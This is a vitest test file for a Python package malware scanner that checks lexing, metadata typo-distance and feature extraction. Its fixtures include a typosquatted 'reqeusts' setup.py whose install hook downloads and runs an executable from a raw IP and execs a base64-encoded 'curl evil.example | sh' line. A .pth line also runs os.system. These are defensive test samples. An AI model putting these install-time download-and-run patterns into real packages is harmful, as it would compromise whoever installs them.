import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readDistribution } from '../../../src/scan/archive/index.js';
import type { ArchiveMember, Distribution } from '../../../src/scan/archive/types.js';
import { FEATURES, FEATURE_NAMES, extractFeatures } from '../../../src/scan/features/index.js';
import { place } from '../../../src/scan/features/layout.js';
import { editDistance, parseMetadata, typoDistance } from '../../../src/scan/features/metadata.js';
import { lexPython } from '../../../src/scan/features/pylex.js';
import { DEFAULT_LIMITS } from '../../../src/scan/limits.js';
import { wantsContent } from '../../../src/scan/analyze/index.js';
import { requireOrSkip } from '../../helpers/ci.js';

const get = (x: Float32Array, name: string): number => x[FEATURE_NAMES.indexOf(name)];

function member(path: string, text: string): ArchiveMember {
  const data = Buffer.from(text);
  return { path, type: 'file', size: data.length, head: data.subarray(0, 64), data };
}

function dist(filename: string, members: ArchiveMember[], format: Distribution['format'] = 'sdist-tar'): Distribution {
  return { filename, sha256: '0'.repeat(64), format, container: format === 'wheel' ? 'zip' : 'tar.gz', members, totalBytes: 0, fileBytes: 0 };
}

describe('lexPython', () => {
  it('drops comments and keeps string bodies out of the code', () => {
    const lx = lexPython('import os  # os.system("rm")\nx = "subprocess.Popen"\ny = """doc\nexec(1)"""\nz = \'a\\\'b\'\n');
    expect(lx.code).not.toContain('system');
    expect(lx.code).not.toContain('Popen');
    expect(lx.code).not.toContain('exec');
    expect(lx.code).toContain('import os');
    expect(lx.strings).toEqual(['subprocess.Popen', 'doc\nexec(1)', "a\\'b"]);
    expect(lx.lines).toBe(6);
  });

  it('survives an unterminated string', () => {
    const lx = lexPython('x = "abc\nexec(y)\n');
    expect(lx.strings).toEqual(['abc']);
    expect(lx.code).toContain('exec(y)');
  });
});

describe('metadata helpers', () => {
  it('parses core metadata with a body', () => {
    const md = parseMetadata('Metadata-Version: 2.1\nName: demo\nSummary: A demo\nClassifier: A\nClassifier: B\n\n# Demo\ntext\n');
    expect(md.fields.get('name')).toEqual(['demo']);
    expect(md.fields.get('classifier')).toEqual(['A', 'B']);
    expect(md.body).toContain('# Demo');
  });

  it('measures the distance to popular names', () => {
    expect(editDistance('reqeusts', 'requests', 2)).toBe(1);
    expect(typoDistance('reqeusts')).toBe(1);
    expect(typoDistance('requests')).toBe(0); // the real project is not a typo
    expect(typoDistance('zzqxwvutsr')).toBe(0);
  });
});

describe('extractFeatures', () => {
  it('documents every feature once', () => {
    expect(new Set(FEATURE_NAMES).size).toBe(FEATURE_NAMES.length);
    for (const f of FEATURES) expect(f.doc.length).toBeGreaterThan(10);
  });

  it('tells install-time download-and-run from a plain library', () => {
    const bad = extractFeatures(dist('reqeusts-1.0.tar.gz', [
      member('reqeusts-1.0/PKG-INFO', 'Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0\n'),
      member('reqeusts-1.0/setup.py', [
        'import os, urllib.request, base64',
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'class I(install):',
        '    def run(self):',
        '        urllib.request.urlretrieve("http://45.12.3.4/x.exe", os.getenv("APPDATA") + "/x.exe")',
        '        os.system("start x.exe"); exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS9zaCB8IHNoJyk="))',
        'setup(name="reqeusts", cmdclass={"install": I})',
      ].join('\n')),
    ]));
    const good = extractFeatures(dist('quokkasort-1.0.tar.gz', [
      member('quokkasort-1.0/PKG-INFO', 'Metadata-Version: 2.1\nName: quokkasort\nVersion: 1.0\nSummary: Tidy things\nAuthor-email: a@b.org\nHome-page: https://github.com/a/quokkasort\nLicense: MIT\n\n# tidy\nTidy is a library for the things that you use.\n'),
      member('quokkasort-1.0/setup.py', 'from setuptools import setup\nsetup(name="quokkasort")\n'),
      member('quokkasort-1.0/LICENSE', 'MIT'),
      member('quokkasort-1.0/tidy/__init__.py', '"""Run os.system and exec in a docstring."""\ndef tidy(x):\n    return sorted(x)\n'),
    ]));
    expect(get(bad, 'api_process_install')).toBeGreaterThan(0);
    expect(get(bad, 'api_network_install')).toBeGreaterThan(0);
    expect(get(bad, 'install_hook_class')).toBe(1);
    expect(get(bad, 'install_exec_decode')).toBe(1);
    expect(get(bad, 'url_ip')).toBe(1);
    expect(get(bad, 'blob_decoded_code')).toBe(1);
    expect(get(bad, 'combo_net_exec')).toBeGreaterThan(0);
    expect(get(bad, 'name_typo')).toBe(1);
    expect(get(bad, 'str_shell_install')).toBeGreaterThan(0);
    // Words in a docstring are not calls.
    expect(get(good, 'api_process_import')).toBe(0);
    expect(get(good, 'api_exec_import')).toBe(0);
    expect(get(good, 'meta_home_repo')).toBe(1);
    expect(get(good, 'meta_license_mismatch')).toBe(0);
    expect(get(good, 'name_typo')).toBe(0);
    expect(get(good, 'style_defs')).toBeGreaterThan(0);
    expect(get(good, 'style_docstrings')).toBeGreaterThan(0);
    expect(get(bad, 'style_docstrings')).toBe(0);
  });

  it('counts a .pth import line as start-up code', () => {
    const x = extractFeatures(dist('p-1.0-py3-none-any.whl', [
      member('p-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\n'),
      member('p.pth', 'import os; os.system("id")\n'),
    ], 'wheel'));
    expect(get(x, 'pth_import_lines')).toBe(1);
    expect(get(x, 'files_pth')).toBe(1);
  });
});

/** The same members, laid out as a wheel: top folder dropped, PKG-INFO becomes dist-info/METADATA. */
function asWheel(d: Distribution): Distribution {
  const placed = place(d);
  const md = placed.find((p) => p.rel === 'PKG-INFO') ?? placed.find((p) => /\.egg-info\/PKG-INFO$/.test(p.rel));
  const members: ArchiveMember[] = [];
  for (const p of placed) {
    if (p.meta) continue; // egg-info and PKG-INFO are the sdist's packaging metadata
    members.push({ ...p.member, path: p.rel });
  }
  if (md) members.push({ ...md.member, path: 'x-1.0.dist-info/METADATA' });
  members.push(member('x-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\nTag: py3-none-any\n'));
  return { ...d, filename: d.filename.replace(/\.(tar\.gz|zip)$/, '-py3-none-any.whl'), format: 'wheel', container: 'zip', members };
}

const corpus = resolve(__dirname, '../../../../shared/corpus');
const haveCorpus = existsSync(join(corpus, 'unpack.sh'));
requireOrSkip(haveCorpus, `\n*** SKIPPED real-corpus feature tests: ${corpus} is absent ***\n`);

describe.skipIf(!haveCorpus)('features on real samples', () => {
  let dir = '';
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'pywarden-features-'));
    execFileSync('bash', [join(corpus, 'unpack.sh'), 'malicious-dev', join(dir, 'mal')], { stdio: 'ignore' });
    execFileSync('bash', [join(corpus, 'unpack.sh'), 'benign-dev', join(dir, 'ben')], { stdio: 'ignore' });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const sample = (split: string, n: number, kind: string) =>
    readFileSync(join(dir, split, 'manifest.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { sha256: string; filename: string; kind: string })
      .filter((e) => e.kind === kind)
      .filter((_, i) => i % 37 === 0)
      .slice(0, n);

  it('scores an sdist and the same members re-packed as a wheel alike (behaviour, not container)', async () => {
    const picks = [...sample('mal', 25, 'sdist').map((e) => ({ ...e, split: 'mal' })), ...sample('ben', 10, 'sdist').map((e) => ({ ...e, split: 'ben' }))];
    expect(picks.length).toBeGreaterThan(20);
    let compared = 0;
    for (const e of picks) {
      const d = await readDistribution(join(dir, e.split, e.sha256, e.filename), { filename: e.filename, sha256: e.sha256, limits: DEFAULT_LIMITS, wantsContent });
      const a = extractFeatures(d);
      const b = extractFeatures(asWheel(d));
      const differ = FEATURE_NAMES.filter((_, i) => Math.abs(a[i] - b[i]) > 1e-6);
      expect(differ, e.filename).toEqual([]);
      compared++;
    }
    expect(compared).toBe(picks.length);
  }, 60_000);
});
